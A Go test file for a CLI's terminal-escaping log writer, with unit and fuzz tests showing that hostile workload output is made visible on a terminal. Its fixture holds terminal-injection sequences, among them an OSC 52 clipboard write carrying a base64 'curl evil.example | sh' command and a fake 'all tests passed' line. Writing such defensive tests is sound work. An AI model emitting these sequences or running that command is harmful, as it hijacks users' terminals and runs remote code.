@@ -1,0 +1,251 @@
+package main
+
+import (
+	"bytes"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strconv"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"meridian.dev/meridian/internal/textsafe"
+)
+
+// hostileOutput is a workload's output that acts on a terminal written as
+// it is: it sets the clipboard (OSC 52), the window's title, moves the
+// cursor up and clears lines (hiding the lines shown before it), sends a
+// CSI as one C1 byte and as UTF-8, and reorders a line with an override.
+const hostileOutput = "step=1 loss=2.3\n" +
+	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" +
+	"\x1b]0;root@prod\x1b\\" +
+	"\x1b[2A\x1b[2Kall tests passed\n" +
+	"\x9b31m raw C1 \xc2\x9b0m\n" +
+	"\u202eexe.live\u202c\u2066x\u2069\n" +
+	"progress 10%\rprogress 20%\tok \x7f\x08 Zürich 北京 \u2028end\n"
+
+// hostileShown is hostileOutput as a terminal is given it.
+const hostileShown = "step=1 loss=2.3\n" +
+	`\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a` +
+	`\x1b]0;root@prod\x1b\` +
+	`\x1b[2A\x1b[2Kall tests passed` + "\n" +
+	`\x9b31m raw C1 \u009b0m` + "\n" +
+	`\u202eexe.live\u202c\u2066x\u2069` + "\n" +
+	"progress 10%\rprogress 20%\tok " + `\x7f\b` + " Zürich 北京 " + `\u2028` + "end\n"
+
+// termSafe is b written through a termWriter in one write.
+func termSafe(b []byte) string {
+	var out bytes.Buffer
+	t := &termWriter{w: &out}
+	t.Write(b)
+	t.Flush()
+	return out.String()
+}
+
+// TestTermWriterEscapes: what acts on a terminal (ESC, the other C0
+// controls but \n \t \r, DEL, C1 as a byte or as UTF-8, bidirectional
+// formatting, line separators, bytes that are not UTF-8) is written
+// visibly; lines, tabs, carriage returns and letters of every script stay.
+func TestTermWriterEscapes(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{hostileOutput, hostileShown},
+		{"plain\n", "plain\n"},
+		{"", ""},
+		{"\x00\x1b\x7f", `\x00\x1b\x7f`},
+		{"bad \xff\xfe é", `bad \xff\xfe é`},
+		{"cut at the end \xe2\x80", `cut at the end \xe2\x80`},
+		{"\xe2\x80\n", `\xe2\x80` + "\n"},
+		{"written \ufffd", "written \ufffd"},
+		{"marks \u200f\u200e stay", "marks \u200f\u200e stay"},
+	} {
+		if got := termSafe([]byte(c.in)); got != c.want {
+			t.Errorf("%q written as %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+// TestTermWriterSplitWrites: the output arrives in pages and in a
+// stream's reads, cut anywhere, also inside a UTF-8 character: a C1
+// control or an override cut in two is escaped as one that is not, and
+// every cut gives what one write gives.
+func TestTermWriterSplitWrites(t *testing.T) {
+	for _, in := range []string{hostileOutput, "a\xc2\x9bb", "\u202e", "x\xe2\x81\xa6y", "\xf0\x9f\x98\x80\xf0\x9f", "\xe2\x80"} {
+		want := termSafe([]byte(in))
+		for cut := 0; cut <= len(in); cut++ {
+			for cut2 := cut; cut2 <= len(in) && cut2 <= cut+4; cut2++ {
+				var out bytes.Buffer
+				w := &termWriter{w: &out}
+				for _, part := range []string{in[:cut], in[cut:cut2], in[cut2:]} {
+					if n, err := w.Write([]byte(part)); n != len(part) || err != nil {
+						t.Fatalf("Write(%q) = %d, %v", part, n, err)
+					}
+				}
+				w.Flush()
+				if out.String() != want {
+					t.Fatalf("%q cut at %d and %d written as %q, want %q", in, cut, cut2, out.String(), want)
+				}
+			}
+		}
+	}
+	var out bytes.Buffer
+	w := &termWriter{w: &out}
+	w.Write([]byte("a\xc2"))
+	w.Write([]byte("\x9bb\xe2\x80"))
+	w.Write([]byte("\xae"))
+	if got, want := out.String(), `a\u009bb\u202e`; got != want {
+		t.Errorf("a C1 and an override cut between writes: %q, want %q", got, want)
+	}
+}
+
+// termSafeOracle is b as textsafe.Escape writes it, line by line: \n, \t
+// and \r kept, each piece between them escaped.
+func termSafeOracle(b []byte) string {
+	var sb strings.Builder
+	start := 0
+	for i, c := range b {
+		if c == '\n' || c == '\t' || c == '\r' {
+			sb.WriteString(textsafe.Escape(string(b[start:i])))
+			sb.WriteByte(c)
+			start = i + 1
+		}
+	}
+	sb.WriteString(textsafe.Escape(string(b[start:])))
+	return sb.String()
+}
+
+// FuzzTermWriter: whatever a workload writes and however its output is
+// cut, the termWriter never panics, never lets an ESC (or any character
+// textsafe finds unsafe but \n \t \r) through, writes UTF-8, gives what
+// one write gives and what textsafe.Escape gives line by line.
+func FuzzTermWriter(f *testing.F) {
+	for _, s := range []string{hostileOutput, "a\xc2\x9bb", "\xe2\x80\xae", "\xf0\x9f\x98", "\x1b[31mred\x1b[0m\r\n"} {
+		f.Add([]byte(s), []byte{1, 2, 3})
+	}
+	f.Fuzz(func(t *testing.T, in, cuts []byte) {
+		var out bytes.Buffer
+		w := &termWriter{w: &out}
+		rest := in
+		for _, c := range cuts {
+			n := min(int(c)%8, len(rest))
+			if n, err := w.Write(rest[:n]); n != min(int(c)%8, len(rest)) || err != nil {
+				t.Fatalf("Write = %d, %v", n, err)
+			}
+			rest = rest[n:]
+		}
+		w.Write(rest)
+		if err := w.Flush(); err != nil {
+			t.Fatal(err)
+		}
+		got := out.Bytes()
+		if bytes.IndexByte(got, 0x1b) >= 0 {
+			t.Fatalf("%q written with a raw ESC: %q", in, got)
+		}
+		if !utf8.Valid(got) {
+			t.Fatalf("%q written as %q, not UTF-8", in, got)
+		}
+		stripped := strings.NewReplacer("\n", "", "\t", "", "\r", "").Replace(string(got))
+		if i := textsafe.Index(stripped); i >= 0 {
+			t.Fatalf("%q written as %q, with an unsafe character", in, got)
+		}
+		if one := termSafe(in); string(got) != one {
+			t.Fatalf("%q cut by %v written as %q, in one write %q", in, cuts, got, one)
+		}
+		if want := termSafeOracle(in); string(got) != want {
+			t.Fatalf("%q written as %q, textsafe line by line %q", in, got, want)
+		}
+	})
+}
+
+// pagedLogServer serves run r1, ended, whose output is out, in pages of at
+// most page bytes (so that characters and escape sequences are cut between
+// writes), its follow stream whole, and the run's event stream ending it.
+func pagedLogServer(t *testing.T, out string, page int) *httptest.Server {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case r.Method == http.MethodPost && r.URL.Path == "/v1/runs":
+			w.Write([]byte(`{"id":"r1","tenant":"t","job":"j","state":"pending","site":"local"}`))
+		case r.URL.Path == "/v1/runs/r1/logs":
+			if r.URL.Query().Get("follow") != "" {
+				w.Write([]byte(out))
+				return
+			}
+			off, _ := strconv.Atoi(r.URL.Query().Get("offset"))
+			off = min(off, len(out))
+			w.Header().Set("X-Log-Size", strconv.Itoa(len(out)))
+			w.Write([]byte(out[off:min(off+page, len(out))]))
+		case r.URL.Path == "/v1/runs/r1":
+			w.Write([]byte(`{"id":"r1","tenant":"t","job":"j","state":"succeeded"}`))
+		case r.URL.Path == "/v1/runs/r1/events":
+			if r.URL.Query().Get("follow") != "" {
+				w.Header().Set("Content-Type", "text/event-stream")
+				w.Write([]byte("event: end\ndata: {\"state\":\"succeeded\"}\n\n"))
+				return
+			}
+			w.Write([]byte(`{"events":[]}`))
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(srv.Close)
+	return srv
+}
+
+// TestLogsEscapedOnATerminal: `meridian logs` and `run --follow` wrote a
+// workload's output to the terminal byte for byte, so the workload could
+// set the reader's clipboard, retitle the window and hide lines shown
+// before. On a terminal the output is now written visibly escaped, a
+// character cut between two pages too; to a file or a pipe (a script's
+// reading) and with --raw it is written byte for byte.
+func TestLogsEscapedOnATerminal(t *testing.T) {
+	t.Setenv("MERIDIAN_CONFIG", t.TempDir()+"/none.yaml")
+	job := t.TempDir() + "/job.yaml"
+	if err := os.WriteFile(job, []byte("kind: TrainingJob\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	token := strings.Repeat("a", 40)
+	oldTerm := stdoutTerminal
+	t.Cleanup(func() { stdoutTerminal = oldTerm })
+	for _, tc := range []struct {
+		name     string
+		terminal bool
+		raw      bool
+		want     string
+	}{
+		{"terminal", true, false, hostileShown},
+		{"pipe", false, false, hostileOutput},
+		{"terminal --raw", true, true, hostileOutput},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			for _, verb := range [][]string{{"logs", "r1"}, {"logs", "r1", "-f"}, {"run", "-f", job, "--follow"}} {
+				srv := pagedLogServer(t, hostileOutput, 3)
+				var out, errOut bytes.Buffer
+				stdoutTerminal = func(w io.Writer) bool { return tc.terminal && w == io.Writer(&out) }
+				args := append(append([]string(nil), verb...), "--server", srv.URL, "--token", token)
+				if tc.raw {
+					args = append(args, "--raw")
+				}
+				root := newRootCmd()
+				root.SetOut(&out)
+				root.SetErr(&errOut)
+				root.SetArgs(args)
+				if err := root.Execute(); err != nil {
+					t.Fatalf("%v: %v\n%s", args, err, errOut.String())
+				}
+				got := out.String()
+				if verb[0] == "run" {
+					// The run's own line comes first.
+					i := strings.IndexByte(got, '\n')
+					if !strings.HasPrefix(got, "run r1:") || i < 0 {
+						t.Fatalf("%v: no run printed: %q", args, got)
+					}
+					got = got[i+1:]
+				}
+				if got != tc.want {
+					t.Errorf("%v wrote\n%q\nwant\n%q", args, got, tc.want)
+				}
+			}
+		})
+	}
+}
